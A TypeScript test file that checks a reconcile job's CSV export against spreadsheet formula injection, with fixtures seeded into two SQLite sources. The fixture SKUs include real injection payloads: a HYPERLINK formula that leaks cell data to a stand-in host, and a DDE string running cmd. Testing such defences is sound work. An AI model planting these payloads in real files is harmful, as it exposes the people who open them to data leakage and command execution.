/**
 * The reconcile job's CSV files (src/cli/csv-out.ts) with hostile text from the source systems
 * and the SKU map: spreadsheet formulas, a DDE payload, quotes, commas, line breaks, tabs,
 * carriage returns and non-ASCII text in canonical SKUs and source codes, over two real SQLite
 * sources. Read back with csv-parse, every text cell is what was written, with a leading `'`
 * when it starts like a formula (OWASP CSV injection), and every figure is a plain number,
 * negative ones included.
 */
import { parse } from 'csv-parse/sync';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runReconcile, type ReconcileResult } from '../../src/cli/reconcile.js';
import { loadConfig } from '../../src/config/index.js';
import { openStore } from '../../src/store/index.js';
import { createSqliteDatabase, type TestDatabase } from '../helpers/databases.js';

/** Canonical SKUs as a SKU map might hold them. */
const SKU = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  plus: '+1',
  dde: `@SUM(1+1)*cmd|' /C calc'!A0`,
  minus: '-cmd',
  tab: '\tTAB-1',
  cr: '\rCR-1',
  fullWidth: '＝1+1',
  prose: 'say "hi", then\nleave',
  unicode: 'Ünïcødé ✓ 日本',
  noCode: '-no-code',
};
/** Codes the WMS holds that no canonical SKU maps. */
const ORPHANS = ['=1+1', '-2', '@cmd', '+"x",y\nz'];

/** What a spreadsheet-safe cell holds for a text: `'` before a formula's first character. */
const guarded = (text: string) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) ? `'${text}` : text);

let erp: TestDatabase;
let wms: TestDatabase;
let dir: string;
let result: ReconcileResult;
/** Each file's rows, figures read as numbers (csv-parse `cast`). */
const read = (file: string, cast = true) => parse(readFileSync(file, 'utf8'), { columns: true, cast }) as Record<string, string | number>[];

beforeAll(async () => {
  [erp, wms] = await Promise.all([createSqliteDatabase(), createSqliteDatabase()]);
  dir = mkdtempSync(join(tmpdir(), 'ig-csv-injection-'));
  const skus = Object.values(SKU).filter((s) => s !== SKU.noCode);
  await erp.exec('create table inv_balance (item_no text, site text, qty integer)');
  await wms.exec('create table bins (item text, wh text, qty integer)');
  // the ERP's and the WMS's codes are as hostile as the SKUs: "=E<sku>" and "-W<sku>"
  await erp.db('inv_balance').insert(skus.map((s, i) => ({ item_no: `=E${s}`, site: 'East', qty: i === 0 ? 3 : 10 })));
  await wms
    .db('bins')
    .insert([
      ...skus.map((s, i) => ({ item: `-W${s}`, wh: 'E', qty: i === 0 ? 10 : i === 3 ? -4 : 10 })),
      ...ORPHANS.map((code) => ({ item: code, wh: 'E', qty: 1 })),
    ]);
  const file = join(dir, 'inventory-graph.yaml');
  writeFileSync(
    file,
    `
store: { client: better-sqlite3, connection: ${JSON.stringify(join(dir, 'gateway.sqlite'))} }
sources:
  erp:
    kind: sql
    client: better-sqlite3
    connection: ${JSON.stringify(erp.connection)}
    stock: { table: inv_balance, columns: { sku: item_no, location: site, onHand: qty } }
  wms:
    kind: sql
    client: better-sqlite3
    connection: ${JSON.stringify(wms.connection)}
    stock: { table: bins, columns: { sku: item, location: wh, onHand: qty } }
locations:
  - { id: DC-EAST, codes: { wms: E, erp: East } }
precedence: { quantity: [wms, erp] }
`,
  );
  const config = loadConfig(file);
  const store = await openStore(config.store);
  try {
    await store.skus.import([
      ...skus.map((s) => ({
        sku: s,
        name: s,
        aliases: [
          { system: 'erp', code: `=E${s}` },
          { system: 'wms', code: `-W${s}` },
        ],
      })),
      { sku: SKU.noCode, name: null, aliases: [] },
    ]);
  } finally {
    await store.close();
  }
  result = await runReconcile({ config, outDir: join(dir, 'out'), tolerance: 0 });
});

afterAll(async () => {
  await Promise.all([erp?.cleanup(), wms?.cleanup()]);
  rmSync(dir, { recursive: true, force: true });
});

describe('the CSV files of the reconcile job, with hostile text in the sources', () => {
  it('guard every text cell that starts like a formula, and read back to exactly that', () => {
    expect(result.status).toBe('completed');
    const lines = read(result.files.lines);
    expect(lines.map((l) => l.sku).sort()).toEqual(
      Object.values(SKU)
        .filter((s) => s !== SKU.noCode)
        .map(guarded)
        .sort(),
    );
    expect(read(result.files.orphans)).toEqual(ORPHANS.map((code) => ({ source: 'wms', code: guarded(code) })).sort((a, b) => (a.code < b.code ? -1 : 1)));
    const gaps = read(result.files.gaps);
    expect(gaps).toEqual([{ sku: guarded(SKU.noCode), source: '', reason: 'NO_CODE', detail: `no stock source has a code for ${SKU.noCode} in the SKU map` }]);
    // the guard is only a leading `'`: text that does not start like a formula is left alone
    expect(lines.find((l) => l.sku === SKU.prose)).toMatchObject({ location: 'DC-EAST', status: 'MATCH', authoritative: 'wms', systems: 'wms|erp' });
    expect(lines.find((l) => l.sku === SKU.unicode)).toMatchObject({ status: 'MATCH' });
  });

  it('write figures as plain numbers, negative ones included', () => {
    const lines = read(result.files.lines);
    const figures = ['quantity', 'variance', 'explained', 'unexplained', 'wms_on_hand', 'wms_in_flight', 'erp_on_hand', 'erp_in_flight'];
    for (const l of lines) for (const f of figures) expect(typeof l[f], `${f} of ${JSON.stringify(l.sku)}`).toBe('number');
    // the WMS 10 against the ERP's 3: the ERP is 7 lower
    expect(lines.find((l) => l.sku === guarded(SKU.hyperlink))).toMatchObject({
      quantity: 10,
      variance: -7,
      explained: 0,
      unexplained: -7,
      wms_on_hand: 10,
      erp_on_hand: 3,
    });
    // a negative bin: -4 on hand, a number a spreadsheet adds up, not text
    expect(lines.find((l) => l.sku === guarded(SKU.minus))).toMatchObject({ quantity: -4, variance: 14, wms_on_hand: -4, erp_on_hand: 10 });
  });

  it('leave no cell in any file starting like a formula, but a negative figure', () => {
    for (const file of [result.files.lines, result.files.gaps, result.files.orphans]) {
      const cells = (parse(readFileSync(file, 'utf8')) as string[][]).flat();
      const formulaLike = cells.filter((c) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(c));
      expect(
        formulaLike.every((c) => /^-\d+$/.test(c)),
        `${file}: ${JSON.stringify(formulaLike)}`,
      ).toBe(true);
    }
  });
});
